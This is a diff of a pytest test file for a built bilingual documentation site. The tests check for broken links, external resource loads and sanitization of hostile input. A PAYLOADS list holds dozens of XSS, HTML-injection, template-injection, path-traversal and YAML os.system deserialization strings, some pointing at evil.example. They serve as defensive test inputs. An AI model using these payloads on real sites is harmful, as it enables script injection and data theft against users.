@@ -1,6 +1,5 @@
 """The built site: no link is broken, nothing loads from elsewhere, formulas are drawn, both languages have it all."""
 
-import html.parser
 import re
 from html import escape as html_escape
 from pathlib import Path
@@ -27,39 +26,29 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return once(tmp_path_factory, "site", lambda folder: build_both(ROOT, folder))
 
 
-class Anchors(html.parser.HTMLParser):
-    """Keeps what a page can be linked to at, and what it links to."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.targets: set[str] = set()
-        self.links: set[str] = set()
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        for name, value in attrs:
-            if name == "id" or (tag == "a" and name == "name"):
-                self.targets.add(value or "")
-            elif name in {"href", "src"}:
-                self.links.add(value or "")
+def read(page: Path) -> Seen:
+    return Seen(page.read_text("utf-8"))
 
 
-def anchors(page: Path) -> Anchors:
-    found = Anchors()
-    found.feed(page.read_text("utf-8"))
-    return found
+def links(page: Seen) -> set[str]:
+    return {value for _, name, value in page.attributes if name in {"href", "src"}}
 
 
 def broken(site: Path) -> list[tuple[str, str]]:
-    found = {page.relative_to(site).as_posix(): anchors(page) for page in site.rglob("*.html")}
+    found = {page.relative_to(site).as_posix(): read(page) for page in site.rglob("*.html")}
+    targets = {
+        name: {value for tag, key, value in page.attributes if key == "id" or (tag, key) == ("a", "name")}
+        for name, page in found.items()
+    }
     lost = []
     for name, page in found.items():
-        for link in page.links:
+        for link in links(page):
             address, fragment = urldefrag(urljoin(f"http://x/{name}", link))
             if not address.startswith("http://x/"):
                 continue
             target = unquote(urlsplit(address).path).lstrip("/") or "index.html"
             there = target in found or (site / target).is_file()
-            anchored = target not in found or not fragment or unquote(fragment) in found[target].targets
+            anchored = target not in found or not fragment or unquote(fragment) in targets[target]
             twin = target.startswith("ja/") and not (site / "ja").is_dir()  # the Japanese site is built apart
             if name != "404.html" and not twin and not (there and anchored):
                 lost.append((name, link))
@@ -94,24 +83,18 @@ def test_the_feed_leads_to_the_entries(site: Path) -> None:
 def test_every_entry_is_in_the_comparison_and_in_the_index_by_chapter(site: Path) -> None:
     entries = {folder.name for folder in (ROOT / "docs" / "log" / "posts").iterdir()}
     for page in ("compare", "chapters"):
-        links = anchors(site / "log" / f"{page}.html").links
-        assert {name for name in entries if f"{name}.html" in links} == entries
+        assert {f"{name}.html" for name in entries} <= links(read(site / "log" / f"{page}.html"))
 
 
 def test_the_site_loads_nothing_from_elsewhere(site: Path) -> None:
     """No page and no style sheet names a resource on another host."""
-    loads = {"src", "srcset", "poster", "data", "background"}
-    outside = []
-
-    class Loads(html.parser.HTMLParser):
-        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-            for name, value in attrs:
-                asked = name in loads or (tag == "link" and name == "href") or name == "style"
-                if asked and re.search(r"https?:|(^|[\s('\"])//", value or ""):
-                    outside.append((tag, name, value))
-
-    for page in site.rglob("*.html"):
-        Loads().feed(page.read_text("utf-8"))
+    loads = {"src", "srcset", "poster", "data", "background", "style"}
+    outside = [
+        (tag, name, value)
+        for page in site.rglob("*.html")
+        for tag, name, value in read(page).attributes
+        if (name in loads or (tag, name) == ("link", "href")) and re.search(r"https?:|(^|[\s('\"])//", value)
+    ]
     for sheet in site.rglob("*.css"):
         outside += re.findall(r"@import[^;]*|url\(\s*['\"]?(?:https?:|//)[^)]*", sheet.read_text("utf-8"))
 
@@ -194,74 +177,37 @@ def test_a_page_of_the_japanese_site_is_japanese_or_says_that_it_is_not(site: Pa
 
 
 PAYLOADS = [
-    "::: llmlab.settings",
-    "<script>alert(1)</script>",
-    "</p></article><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</textarea></style></script><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
-    "<body onpageshow=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=https://evil.example/x.swf>",
-    "<base href=https://evil.example/>",
-    "<form action=https://evil.example><input name=x></form>",
-    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
-    "<style>body { display: none }</style>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<scr<script>ipt>alert(1)</script>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1) \"title\")",
-    "![x](https://evil.example/x.png)",
-    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
-    "[x][y]\n\n[y]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "<https://evil.example>",
-    "https://evil.example/x",
-    "x{: onmouseover=alert(1) }",
-    "{: onmouseover=alert(1) .x #y }",
-    "# heading {: onclick=alert(1) }",
-    "```\n<script>alert(1)</script>\n```",
-    "````\n```\n<script>alert(1)</script>",
-    "~~~ {onclick=alert(1)}\nx\n~~~",
-    "`</code><script>alert(1)</script>`",
-    '--8<-- "mkdocs.yml"',
-    "--8<-- \"../../mkdocs.yml\"\n",
-    "{{ config.site_name }} {{ 7 * 7 }}",
-    "{% include 'main.html' %}",
-    "---\ntitle: stolen\ntags: [x]\n---",
-    "title: !!python/object/apply:os.system ['true']",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "&lt;img src=x onerror=alert(1)&gt;",
-    "<!-- notes:end -->\n\n<script>alert(1)</script>",
-    "<!-- more -->\n\n<script>alert(1)</script>",
-    "<!-- notes:begin\n-->",
-    "!!! danger \"<script>alert(1)</script>\"\n    x",
-    "??? x\n    <script>alert(1)</script>",
-    '=== "x"\n    y',
-    "$$\\href{javascript:alert(1)}{x}$$",
-    '<span class="arithmatex">\\(\\href{javascript:alert(1)}{x}\\)</span>',
-    "| a | b |\n| - | - |\n| <script>alert(1)</script> | x |",
-    "*[x]: <script>alert(1)</script>",
+    "::: llmlab.settings", "<script>alert(1)</script>", "</p></article><script>alert(1)</script>",
+    "</title><script>alert(1)</script>", "</textarea></style></script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
+    "<svg><style>@import 'https://evil.example/x.css'</style></svg>", "<body onpageshow=alert(1)>",
+    "<details open ontoggle=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>", "<embed src=https://evil.example/x.swf>",
+    "<base href=https://evil.example/>", "<form action=https://evil.example><input name=x></form>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<style>body { display: none }</style>",
+    "<a href=javascript:alert(1)>x</a>", "<scr<script>ipt>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1) \"title\")",
+    "![x](https://evil.example/x.png)", "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "[x][y]\n\n[y]: javascript:alert(1)", "<javascript:alert(1)>", "<https://evil.example>", "https://evil.example/x",
+    "x{: onmouseover=alert(1) }", "{: onmouseover=alert(1) .x #y }", "# heading {: onclick=alert(1) }",
+    "```\n<script>alert(1)</script>\n```", "````\n```\n<script>alert(1)</script>", "~~~ {onclick=alert(1)}\nx\n~~~",
+    "`</code><script>alert(1)</script>`", '--8<-- "mkdocs.yml"', "--8<-- \"../../mkdocs.yml\"\n",
+    "{{ config.site_name }} {{ 7 * 7 }}", "{% include 'main.html' %}", "---\ntitle: stolen\ntags: [x]\n---",
+    "title: !!python/object/apply:os.system ['true']", "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&lt;img src=x onerror=alert(1)&gt;", "<!-- notes:end -->\n\n<script>alert(1)</script>",
+    "<!-- more -->\n\n<script>alert(1)</script>", "<!-- notes:begin\n-->",
+    "!!! danger \"<script>alert(1)</script>\"\n    x", "??? x\n    <script>alert(1)</script>", '=== "x"\n    y',
+    "$$\\href{javascript:alert(1)}{x}$$", '<span class="arithmatex">\\(\\href{javascript:alert(1)}{x}\\)</span>',
+    "| a | b |\n| - | - |\n| <script>alert(1)</script> | x |", "*[x]: <script>alert(1)</script>",
     "[^1]\n\n[^1]: <script>alert(1)</script>",
     "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
-    "\x00<script>alert(1)</script>",
-    "\u2028<script>alert(1)</script>",
+    "\x00<script>alert(1)</script>", "\u2028<script>alert(1)</script>",
 ]  # fmt: skip
 
 
 ALARMS = [
-    "<script>",
-    "<img src=x onerror=a()>",
-    "<a href=' java\nscript:a()'>",
-    "<img src='data:x'>",
-    "<p style='a:b'>",
-]
+    "<script>", "<img src=x onerror=a()>", "<a href=' java\nscript:a()'>", "<img src='data:x'>", "<p style='a:b'>"
+]  # fmt: skip
 
 
 @pytest.mark.parametrize("document", ALARMS)
